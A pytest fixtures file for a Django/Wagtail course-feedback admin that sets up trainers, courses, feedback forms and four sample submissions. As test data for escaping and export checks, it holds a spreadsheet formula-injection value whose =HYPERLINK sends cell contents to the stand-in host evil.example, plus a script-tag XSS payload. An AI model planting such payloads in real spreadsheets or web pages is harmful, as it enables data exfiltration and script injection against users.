"""Fixtures of the feedback admin tests: two courses taught by two trainers, a
training-feedback form with one question of every kind on course A, its lesson and
course B, a service-opinion form on course B only, and submissions stored the way
``courses.models.feedback`` describes (built with the ORM, so these tests do not
depend on the respondent-side service).

Users: ``admin_user`` (superuser), ``training_admin`` (group 培训管理员),
``trainer`` (demo 讲师, may edit every page), ``trainer_a`` (讲师 permissions, may edit
course A only), ``customer``, ``staff``.
"""

import itertools
from datetime import date, datetime

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.utils import timezone
from wagtail.models import GroupPagePermission

from courses.models import (
    CoursePage,
    FeedbackAnswer,
    FeedbackForm,
    FeedbackKind,
    FeedbackQuestion,
    FeedbackSubmission,
    LessonPage,
    ReviewStatus,
)
from portal.accounts.models import Organisation, Profile
from portal.accounts.roles import GROUP_NAMES, Role
from tests.factories.pages import (
    CourseIndexPageFactory,
    CoursePageFactory,
    LessonPageFactory,
)

SUBMISSIONS = "/admin/feedback/submissions/"
FOLLOW_UPS = "/admin/feedback/follow-ups/"
FORMS = "/admin/feedback/forms/"

# key, kind, text, options
TRAINING_QUESTIONS = [
    ("part_course", FeedbackKind.SECTION, "课程内容", ""),
    ("objectives_relevant", FeedbackKind.LIKERT, "培训目标与我的工作相关", ""),
    (
        "trainer_quality",
        FeedbackKind.LIKERT_MATRIX,
        "对讲师的评价",
        "讲师准备充分\n讲师专业\n讲师平易近人",
    ),
    ("recommend", FeedbackKind.RATING, "您向同事推荐本课程的可能性", ""),
    ("channel", FeedbackKind.SINGLE, "您从哪里得知本课程", "官网\n销售\n同事"),
    ("topics", FeedbackKind.MULTIPLE, "您最想深入的主题", "保养\n故障排除\n安装"),
    ("contact", FeedbackKind.SHORT_TEXT, "联系电话或备注", ""),
    ("suggestions", FeedbackKind.LONG_TEXT, "您的建议", ""),
    ("solved", FeedbackKind.YES_NO, "问题是否已解决", ""),
    ("training_date", FeedbackKind.DATE, "培训日期", ""),
]
SERVICE_QUESTIONS = [
    ("solved", FeedbackKind.YES_NO, "问题是否已解决", ""),
    ("comment", FeedbackKind.LONG_TEXT, "其他意见", ""),
]
NASTY = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "plus": "+1",
    "at": "@SUM(A1)",
    "minus": "-2",
}
SCRIPT = "<script>alert('xss')</script>"

_serial = itertools.count(1)


def make_user(username, *, name=None, organisation=None, role=Role.CUSTOMER):
    user = get_user_model().objects.create_user(
        username=username, email=f"{username}@example.com"
    )
    Profile.objects.create(
        user=user, display_name=name or username, organisation=organisation
    )
    user.groups.add(Group.objects.get(name=GROUP_NAMES[role]))
    return user


def make_form(title, questions) -> FeedbackForm:
    form = FeedbackForm.objects.create(title=title)
    FeedbackQuestion.objects.bulk_create(
        FeedbackQuestion(
            form=form, key=key, kind=kind, text=text, options=options, sort_order=i
        )
        for i, (key, kind, text, options) in enumerate(questions)
    )
    return form


def attach(page, form):
    """Attach ``form`` to the live row of ``page`` (as after publishing)."""
    type(page).objects.filter(pk=page.pk).update(feedback_form=form)


def _course_of(page):
    specific = page.specific
    if isinstance(specific, CoursePage):
        return specific
    if isinstance(specific, LessonPage):
        return CoursePage.objects.filter(pk=page.get_parent().pk).first()
    return None


def _answers(submission, questions, values):
    """FeedbackAnswer rows of ``values`` ({key: value}) as the storage rule says:
    scalars row 0; a matrix {statement number: 1..5}; multiple choice a list of
    option numbers; single choice an option number."""
    rows = []
    for key, value in values.items():
        question = questions[key]
        common = {"submission": submission, "question": question, "question_key": key}
        options = question.option_list
        if question.kind == FeedbackKind.LIKERT_MATRIX:
            rows += [
                FeedbackAnswer(**common, row=row, int_value=score)
                for row, score in value.items()
            ]
        elif question.kind == FeedbackKind.MULTIPLE:
            rows += [
                FeedbackAnswer(
                    **common,
                    row=number,
                    int_value=number,
                    text_value=options[number - 1],
                )
                for number in value
            ]
        elif question.kind == FeedbackKind.SINGLE:
            rows.append(
                FeedbackAnswer(**common, int_value=value, text_value=options[value - 1])
            )
        elif question.kind in (
            FeedbackKind.LIKERT,
            FeedbackKind.RATING,
            FeedbackKind.YES_NO,
        ):
            rows.append(FeedbackAnswer(**common, int_value=int(value)))
        elif question.kind == FeedbackKind.DATE:
            rows.append(FeedbackAnswer(**common, date_value=value))
        else:
            rows.append(FeedbackAnswer(**common, text_value=value))
    FeedbackAnswer.objects.bulk_create(rows)


def make_submission(
    form,
    page,
    *,
    respondent=None,
    respondent_name="",
    organisation=None,
    organisation_name="",
    when=None,
    status=ReviewStatus.NEW,
    assignee=None,
    answers=None,
):
    course = _course_of(page) if page is not None else None
    if respondent is not None and not respondent_name:
        respondent_name = respondent.profile.display_name
    submission = FeedbackSubmission.objects.create(
        form=form,
        page=page,
        course=course,
        trainer=course.trainer if course else None,
        respondent=respondent,
        respondent_name=respondent_name,
        organisation=organisation,
        organisation_name=organisation_name
        or (organisation.name if organisation else ""),
        submitted_at=when or timezone.now(),
        token=f"00000000-0000-4000-8000-{next(_serial):012d}",
        review_status=status,
        assignee=assignee,
    )
    questions = {question.key: question for question in form.questions.all()}
    _answers(submission, questions, answers or {})
    return submission


def aware(*args):
    return timezone.make_aware(datetime(*args))


def full_answers(**overrides):
    values = {
        "objectives_relevant": 5,
        "trainer_quality": {1: 5, 2: 4, 3: 3},
        "recommend": 9,
        "channel": 2,
        "topics": [1, 3],
        "contact": "13800000000",
        "suggestions": "多安排实操练习。",
        "solved": 1,
        "training_date": date(2026, 2, 27),
    }
    values.update(overrides)
    return values


@pytest.fixture
def organisation(db):
    return Organisation.objects.create(
        name="华东精密机械（反馈测试）", kind=Organisation.Kind.CUSTOMER, code="T-FB"
    )


@pytest.fixture
def other_organisation(db):
    return Organisation.objects.create(
        name="南方动力设备（反馈测试）", kind=Organisation.Kind.CUSTOMER, code="T-FB2"
    )


@pytest.fixture
def trainer_b(db):
    return make_user("fb-trainer-b", name="乙老师", role=Role.TRAINER)


@pytest.fixture
def fb_tree(home_page, trainer_b):
    index = CourseIndexPageFactory(parent=home_page, title="反馈测试课程目录")
    teacher_a = make_user("fb-teacher-a", name="甲老师", role=Role.TRAINER)
    course_a = CoursePageFactory(parent=index, title="反馈课程甲", trainer=teacher_a)
    course_b = CoursePageFactory(parent=index, title="反馈课程乙", trainer=trainer_b)
    lesson_a = LessonPageFactory(parent=course_a, title="反馈课程甲第一课")
    return {
        "index": index,
        "course_a": course_a,
        "course_b": course_b,
        "lesson_a": lesson_a,
        "teacher_a": teacher_a,
    }


@pytest.fixture
def fb_forms(fb_tree):
    """The training form on course A and lesson A; the service form on course B
    (which carried the training form before: submission c below)."""
    training = make_form("培训反馈单（测试）", TRAINING_QUESTIONS)
    service = make_form("客户服务意见单（测试）", SERVICE_QUESTIONS)
    for page in (fb_tree["course_a"], fb_tree["lesson_a"]):
        attach(page, training)
    attach(fb_tree["course_b"], service)
    return {"training": training, "service": service}


@pytest.fixture
def respondents(organisation):
    return {
        "zhou": make_user("fb-zhou", name="周建国", organisation=organisation),
        "wu": make_user("fb-wu", name="吴丽"),
    }


@pytest.fixture
def fb_data(fb_tree, fb_forms, respondents, organisation, admin_user):
    """Four submissions:

    - a: training form, course A, 周建国 (organisation above), new, 2026-03-01;
    - b: training form, lesson A, anonymous from 散客单位, new, 2026-03-10, with a
      script tag and formula-looking texts;
    - c: training form (course B carried it then), course B, 吴丽, follow-up by
      admin, 2026-04-02;
    - d: service form, course B, anonymous, reviewed, 2026-04-05.
    """
    training, service = fb_forms["training"], fb_forms["service"]
    a = make_submission(
        training,
        fb_tree["course_a"],
        respondent=respondents["zhou"],
        organisation=organisation,
        when=aware(2026, 3, 1, 10, 0),
        answers=full_answers(),
    )
    b = make_submission(
        training,
        fb_tree["lesson_a"],
        organisation_name="散客单位",
        when=aware(2026, 3, 10, 15, 30),
        answers=full_answers(
            suggestions=SCRIPT,
            contact=NASTY["hyperlink"],
            objectives_relevant=2,
            topics=[2],
        ),
    )
    c = make_submission(
        training,
        fb_tree["course_b"],
        respondent=respondents["wu"],
        when=aware(2026, 4, 2, 9, 0),
        status=ReviewStatus.FOLLOW_UP,
        assignee=admin_user,
        answers=full_answers(suggestions="讲师乙的课节奏太快。", solved=0),
    )
    c.follow_up_note = "请乙老师回访。"
    c.reviewed_by = admin_user
    c.reviewed_at = aware(2026, 4, 3, 9, 0)
    c.save()
    d = make_submission(
        service,
        fb_tree["course_b"],
        when=aware(2026, 4, 5, 11, 0),
        status=ReviewStatus.REVIEWED,
        answers={"solved": 1, "comment": "服务乙很及时。"},
    )
    return {"a": a, "b": b, "c": c, "d": d}


@pytest.fixture
def training_admin(db):
    return make_user("fb-training-admin", name="培训主管", role=Role.TRAINING_ADMIN)


@pytest.fixture
def trainer_a(fb_tree):
    """A trainer who may edit course A (and its lesson) only: the 讲师 model
    permissions and page permissions below course A."""
    group = Group.objects.create(name="讲师（反馈课程甲）")
    group.permissions.set(
        Group.objects.get(name=GROUP_NAMES[Role.TRAINER]).permissions.all()
    )
    for codename in ("add_page", "change_page"):
        GroupPagePermission.objects.create(
            group=group,
            page=fb_tree["course_a"],
            permission=Permission.objects.get(
                content_type__app_label="wagtailcore", codename=codename
            ),
        )
    user = make_user("fb-trainer-a", name="甲助教", role=Role.TRAINER)
    user.groups.set([group])
    return user


def grant(user, *codenames):
    """Give ``user``'s first group extra courses permissions (and return a fresh
    user object, whose permission cache is empty)."""
    group = user.groups.first()
    group.permissions.add(
        *Permission.objects.filter(
            content_type__app_label="courses", codename__in=codenames
        )
    )
    return get_user_model().objects.get(pk=user.pk)
